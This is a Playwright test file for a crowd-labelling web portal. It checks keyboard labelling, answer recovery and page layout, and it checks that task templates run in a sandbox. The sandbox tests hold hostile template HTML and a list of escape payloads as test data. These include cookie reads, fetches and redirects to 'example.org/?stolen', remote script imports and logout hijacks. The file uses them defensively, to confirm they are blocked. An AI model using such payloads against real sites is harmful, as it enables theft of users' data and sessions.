"""Working in a real browser."""

import json
import re

import pytest
from playwright.sync_api import Page, expect

from gtcrowd.kinds import choice
from gtcrowd.tasks.answers import drafts
from gtcrowd.tasks.models import Answer, Assignment, AssignmentState, Task
from tests.portal import browsing
from tests.portal.conftest import picture, put

pytestmark = pytest.mark.browser


@pytest.fixture
def start(address, cleos_page):
    """Begins to work on a job and waits until the task has the keyboard; returns what is inside the frame."""

    def _start(job):
        cleos_page.goto(f"{address}/work/{job.pk}/")
        cleos_page.get_by_role("button", name="Start working").click()
        frame = cleos_page.frame_locator("#sandbox")
        expect(frame.get_by_role("radio").first).to_be_focused()
        return frame

    return _start


def values() -> list[str]:
    return list(Answer.objects.order_by("pk").values_list("value", flat=True))


def submit(page: Page, key: str) -> None:
    page.keyboard.press(key)
    page.keyboard.press("Control+Enter")


def test_labels_two_objects_by_keyboard(cleos_page, start, pictures):
    frame = start(pictures)

    submit(cleos_page, "2")
    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    expect(frame.get_by_role("radio", name="heron")).to_be_focused()
    submit(cleos_page, "1")

    expect(cleos_page.get_by_role("heading", name="Well done")).to_be_visible()
    assert values() == ["ibis", "heron"]
    assert all(0 <= seconds < 60 for seconds in Answer.objects.values_list("active_seconds", flat=True))
    assert cleos_page.complaints == []


def test_prefetches_next_task(cleos_page, start, pictures):
    requested = []
    cleos_page.on("request", lambda request: "/work/sandbox/" in request.url and requested.append(request.url))
    frame = start(pictures)
    waiting = cleos_page.frame_locator("#sandbox-next")
    expect(waiting.get_by_role("radio", include_hidden=True).first).to_be_attached()
    ahead = Assignment.objects.get(in_advance=True)

    submit(cleos_page, "2")
    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    expect(frame.get_by_role("radio", name="heron")).to_be_focused()

    assert len(requested) == 2
    ahead.refresh_from_db()
    assert (ahead.in_advance, ahead.state) == (False, AssignmentState.LIVE)
    submit(cleos_page, "1")
    expect(cleos_page.get_by_role("heading", name="Well done")).to_be_visible()
    assert values() == ["ibis", "heron"]
    assert cleos_page.complaints == []


def test_draft_survives_reload_and_other_browser(browser, address, cleos_page, start, give, hire, signed_in):
    job = give([{"source": "x"}], kind="text", categories=[])
    cleos_page.goto(f"{address}/work/{job.pk}/")
    cleos_page.get_by_role("button", name="Start working").click()
    cleos_page.frame_locator("#sandbox").get_by_role("textbox").fill("half a senten")
    with cleos_page.expect_response("**/draft/"):
        pass

    cleos_page.reload()
    expect(cleos_page.frame_locator("#sandbox").get_by_role("textbox")).to_have_value("half a senten")
    cleos_page.evaluate("localStorage.clear()")
    cleos_page.reload()
    expect(cleos_page.frame_locator("#sandbox").get_by_role("textbox")).to_have_value("half a senten")
    cleos_page.keyboard.press("Control+Enter")

    expect(cleos_page.get_by_role("heading", name="Well done")).to_be_visible()
    assert values() == ["half a senten"]
    assert drafts.tidy() == 1


def test_stopping_prefetches_nothing(cleos_page, start, pictures):
    # Chosen before the page's own script runs, which fetches the next task as soon as this one is there.
    chosen = "document.addEventListener('readystatechange', () => document.getElementById('stop-after')?.setAttribute('checked', ''))"
    cleos_page.add_init_script(chosen)
    cleos_page.clock.install()
    requests = []
    cleos_page.on("request", lambda request: requests.append(request.url))
    start(pictures)
    expect(cleos_page.get_by_label("Stop after this task")).to_be_checked()
    cleos_page.clock.run_for(2000)  # longer than the page waits before it fetches
    browsing.wait_for_requests(cleos_page)

    assert not [address for address in requests if "/in-advance/" in address]
    assert not Assignment.objects.filter(in_advance=True).exists()


def test_signing_in_leads_to_the_work(browser, address, hire, pictures):
    page = browser.new_page()
    page.goto(f"{address}/work/{pictures.pk}/")
    page.get_by_label("Email").fill(hire("dan").user.email)
    page.get_by_label("Password").fill("correct horse battery")
    page.keyboard.press("Enter")

    expect(page.get_by_role("button", name="Start working")).to_be_visible()
    page.close()


def test_scrolls_text_by_arrow_keys(cleos_page, start, texts):
    frame = start(texts)
    cleos_page.keyboard.press("ArrowDown")
    expect(frame.get_by_role("radio", name="ibis")).to_be_checked()
    expect(frame.locator("classification-target")).to_contain_text('<script>alert("x")</script>')
    cleos_page.keyboard.press("Control+Enter")

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    assert values() == ["ibis"]
    assert cleos_page.complaints == []


@pytest.mark.parametrize("medium", ["pictures", "texts"])
def test_multi_select_by_keyboard(cleos_page, address, request, give, medium):
    source = request.getfixturevalue(medium).data_objects.order_by("position").values_list("line", flat=True)
    job = give([json.loads(line) for line in source], kind="choices", categories=["reed", "heron", "ibis"])
    cleos_page.goto(f"{address}/work/{job.pk}/")
    cleos_page.get_by_role("button", name="Start working").click()
    frame = cleos_page.frame_locator("#sandbox")
    expect(frame.get_by_role("checkbox").first).to_be_focused()

    cleos_page.keyboard.press("Control+Enter")
    expect(frame.get_by_role("alert").filter(has_text="Choose at least one category")).to_be_visible()
    for key in "4312":
        cleos_page.keyboard.press(key)
    expect(frame.get_by_role("checkbox", name="None of these")).not_to_be_checked()
    submit(cleos_page, "1")
    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    expect(frame.get_by_role("checkbox").first).to_be_focused()
    submit(cleos_page, "4")

    expect(cleos_page.get_by_role("heading", name="Well done")).to_be_visible()
    assert values() == [["heron", "ibis"], []]
    assert cleos_page.complaints == []


def test_refuses_submit_without_choice(cleos_page, start, pictures):
    frame = start(pictures)
    cleos_page.keyboard.press("Control+Enter")

    expect(frame.get_by_role("alert").filter(has_text="Choose a category first.")).to_be_visible()
    assert values() == []


def test_shortcuts_work_outside_sandbox(cleos_page, start, pictures):
    frame = start(pictures)
    cleos_page.locator("h1").click()
    cleos_page.keyboard.press("2")

    expect(frame.get_by_role("radio", name="ibis")).to_be_checked()


def test_answer_survives_a_lost_connection(cleos_page, start, pictures):
    start(pictures)
    cleos_page.route("**/submit/", lambda route: route.abort())
    submit(cleos_page, "2")
    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is saved")
    cleos_page.unroute("**/submit/")

    cleos_page.get_by_role("button", name="Send again").click()

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    assert values() == ["ibis"]


def test_answer_survives_a_reload(cleos_page, start, pictures):
    start(pictures)
    cleos_page.route("**/submit/", lambda route: route.abort())
    submit(cleos_page, "2")
    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is saved")
    cleos_page.unroute("**/submit/")
    cleos_page.on("dialog", lambda dialog: dialog.accept())  # the browser asks whether one really wants to leave

    cleos_page.reload()

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    assert values() == ["ibis"]


def test_answer_survives_signing_out(cleos_page, start, pictures):
    start(pictures)
    cookies = cleos_page.context.cookies()
    cleos_page.context.clear_cookies()
    submit(cleos_page, "2")
    expect(cleos_page.locator("#notice")).to_contain_text("You are signed out.")
    expect(cleos_page.get_by_role("link", name="Sign in")).to_be_visible()
    cleos_page.context.add_cookies(cookies)

    cleos_page.get_by_role("button", name="Send again").click()

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    assert values() == ["ibis"]


def test_double_click_submits_once(cleos_page, start, pictures):
    frame = start(pictures)
    cleos_page.keyboard.press("2")
    frame.get_by_role("button", name="Submit").dblclick()

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    expect(frame.get_by_role("radio", name="heron")).to_be_focused()
    assert values() == ["ibis"]


def test_retries_missing_picture(cleos_page, address, pictures):
    cleos_page.route("**/work/object/**", lambda route: route.abort())
    cleos_page.goto(f"{address}/work/{pictures.pk}/")
    cleos_page.get_by_role("button", name="Start working").click()
    frame = cleos_page.frame_locator("#sandbox")
    expect(frame.get_by_text("The picture could not be loaded.")).to_be_visible()
    submit(cleos_page, "1")
    assert values() == []
    cleos_page.unroute("**/work/object/**")

    frame.get_by_role("button", name="Try again").click()

    expect(frame.locator("img")).to_be_visible()


def test_return_needs_confirmation(cleos_page, start, pictures):
    start(pictures)
    cleos_page.keyboard.press("Alt+r")
    expect(cleos_page.get_by_role("dialog", name="Return this task?")).to_be_visible()
    cleos_page.keyboard.type("too dark")
    cleos_page.keyboard.press("Enter")

    expect(cleos_page.get_by_text("Task returned.")).to_be_visible()
    # The next task may have been taken by now.
    assert Assignment.objects.get(state=AssignmentState.RETURNED).reason == "too dark"


def test_question_mark_lists_the_shortcuts(cleos_page, start, pictures):
    start(pictures)
    cleos_page.keyboard.press("?")
    expect(cleos_page.get_by_role("dialog", name="Shortcuts")).to_be_visible()
    cleos_page.keyboard.press("Escape")

    submit(cleos_page, "1")

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")


def test_announces_time_left(cleos_page, start, give, pictures):
    start(pictures)

    expect(cleos_page.locator("#timer")).to_have_text(re.compile(r"^4:\d\d left$"))
    assert cleos_page.locator("#timer").get_attribute("data-urgency") == "calm"


def test_tasks_add_no_history_entries(cleos_page, start, pictures):
    start(pictures)
    before = cleos_page.evaluate("history.length")
    submit(cleos_page, "1")
    expect(cleos_page.locator("#earned")).to_have_text("$0.036")

    assert cleos_page.evaluate("history.length") == before


HOSTILE = """
<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-classifier></crowd-form>
<img src="/static/theme/mark.svg" onerror="document.title='inline'"><script>document.title="inline"</script>
<iframe src="/work/"></iframe><form action="/account/logout/" method="post"><button id="go">go</button></form>
"""


TRIES = {
    "cookies": "document.cookie",
    "parent": "window.parent.document.title",
    "storage": "window.sessionStorage.length",
    "network": "fetch('/work/').then((found) => found.text())",
    "elsewhere": "fetch('https://example.org/?stolen', {mode: 'no-cors'})",
    "beacon": "violates(() => navigator.sendBeacon('/account/logout/', 'x'))",
    "socket": "new Promise((yes, no) => { const s = new WebSocket('wss://example.org'); s.onopen = yes; s.onerror = no; })",
    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/theme/mark.svg'; })",
    "script": "import('https://example.org/x.js')",
    "out": "void (window.top.location = '/account/logout/')",
    "window": "(() => { if (!window.open('/work/')) throw 0; })()",
    "worker": "violates(() => new Worker('data:text/javascript,1'))",
    "peer": "(() => { new RTCPeerConnection(); })()",
}


VIOLATES = """const violates = (act) => new Promise((yes, no) => {
    document.addEventListener("securitypolicyviolation", no);
    act();
    setTimeout(yes, 60_000);
});"""


def tried(inside):
    """What of all that can be tried came to something."""
    result = {}
    for name, code in TRIES.items():
        attempt = (
            f"async () => {{ {VIOLATES} try {{ return ['yes', String(await ({code}))] }} catch {{ return null }} }}"
        )
        result[name] = inside.evaluate(attempt)
    return {name: reached for name, reached in result.items() if reached}


def test_hostile_template_is_contained(cleos_page, start, texts, monkeypatch):
    monkeypatch.setattr(choice.Choice, "template", lambda _self, _medium: HOSTILE)
    start(texts)
    inside = next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url)

    assert tried(inside).keys() <= {"peer"}  # its policy lets in no script that could use one
    assert inside.title() == "Task"
    assert "/work/" in cleos_page.url


OWN = """<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-classifier></crowd-form>
<iframe src="/work/"></iframe><script>%s</script>"""


def test_custom_template_scripts_are_contained(cleos_page, start, give):
    start(give([{"source": "x"}], template=OWN % "document.title = 'inline'"))
    inside = next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url)

    assert inside.title() == "inline"
    assert tried(inside) == {}
    inside.evaluate("() => { location.href = 'https://example.org/?stolen' }")
    browsing.until(cleos_page, lambda: "/work/sandbox/" not in inside.url)
    assert not any("example.org" in frame.url for frame in cleos_page.frames)
    assert "/work/" in cleos_page.url


@pytest.mark.parametrize(
    "script",
    [
        "setInterval(() => { parent.postMessage('loops', '*'); setTimeout(() => { for (;;) {} }) }, 300)",
        "setInterval(() => { for (let i = 0; i < 9999; i++) parent.postMessage({from: 'gtcrowd', type: 'key', key: '?'}, '*') }, 50)",
    ],
    ids=["loops", "floods"],
)
def test_busy_template_can_be_left(cleos_page, address, give, script):
    browsing.count_messages(cleos_page)
    job = give([{"source": "x"}], template=OWN % script)
    cleos_page.goto(f"{address}/work/{job.pk}/")
    cleos_page.get_by_role("button", name="Start working").click()
    cleos_page.wait_for_function("() => window.heard.loops || document.body.innerText.includes('it interfered')")

    # By mouse: a key would go to the task, which does not answer.
    cleos_page.locator('[data-opens="return"]').click()
    cleos_page.locator("#return").get_by_role("button", name="Return").click()

    expect(cleos_page.get_by_text("Task returned.")).to_be_visible()


def test_page_hears_only_its_own_frame(cleos_page, start, texts):
    requests = []
    cleos_page.on("request", lambda request: requests.append(request.url))
    start(texts)
    forged = {"from": "gtcrowd", "type": "answer", "content": {"crowd-classifier": {"label": "ibis"}}}
    cleos_page.evaluate(
        """(forged) => new Promise((done) => {
        window.addEventListener("message", ({ data }) => data === "after it" && done());
        window.postMessage(forged, "*");
        window.postMessage("after it", "*");
    })""",
        forged,
    )
    browsing.wait_for_requests(cleos_page)

    assert not [address for address in requests if "/submit/" in address]
    assert values() == []


@pytest.mark.parametrize("width", [320, 1280])
def test_no_page_scrolls_sideways(cleos_page, address, start, pictures, width):
    cleos_page.set_viewport_size({"width": width, "height": 640})

    def fits(where):
        return where.evaluate("document.documentElement.scrollWidth <= window.innerWidth")

    for path in ("/work/", f"/work/{pictures.pk}/", "/join/x/", "/account/password/change/", "/nothing/"):
        cleos_page.goto(f"{address}{path}")
        assert fits(cleos_page), path
    start(pictures)
    assert fits(cleos_page)
    assert fits(next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url))
    expect(cleos_page.frame_locator("#sandbox").get_by_role("button", name="Submit")).to_be_in_viewport()


def test_member_pages_do_not_scroll_sideways(browser, address, signed_in, alice, pictures):
    context = browser.new_context(viewport={"width": 320, "height": 640})
    page = browsing.sign_in(context, address, signed_in(alice.user))
    for path in ("/jobs/", f"/jobs/{pictures.name}/", "/jobs/new/", "/people/"):
        page.goto(f"{address}{path}")
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
    assert page.complaints == []
    context.close()


@pytest.mark.parametrize(
    "template",
    ["", '<img alt="" src="{{ task.input.source-ref | grant_read_access }}"><crowd-input name="x"></crowd-input>'],
)
def test_returned_object_that_is_missing_fails(cleos_page, address, give, template):
    asks = {"kind": "custom", "categories": [], "template": f"<crowd-form>{template}</crowd-form>"} if template else {}
    job = give([{"source-ref": "s3://heron-data/none.png"}], medium="image", workers_per_object=1, **asks)
    cleos_page.goto(f"{address}/work/{job.pk}/")
    cleos_page.get_by_role("button", name="Start working").click()
    expect(cleos_page.locator('#return input[name="unseen"]')).to_have_value("1")
    cleos_page.locator("[data-opens='return']").click()
    cleos_page.get_by_role("dialog").get_by_role("button", name="Return task").click()

    expect(cleos_page.get_by_text("Task returned because it could not be shown.")).to_be_visible()
    assert Task.objects.get().reason_code == "object-not-shown"


def test_prefetched_object_that_is_missing_is_known(cleos_page, start, give):
    put("s3://heron-data/there.png", picture(60))
    job = give([{"source-ref": f"s3://heron-data/{name}.png"} for name in ("there", "none")])
    browsing.count_messages(cleos_page)
    start(job)
    browsing.wait_for_next_task(cleos_page)
    browsing.wait_for_messages(cleos_page, "missing")
    expect(cleos_page.locator('#return input[name="unseen"]')).to_have_value("")

    submit(cleos_page, "1")

    expect(cleos_page.locator("#earned")).to_have_text("$0.036")
    expect(cleos_page.locator('#return input[name="unseen"]')).to_have_value("1")
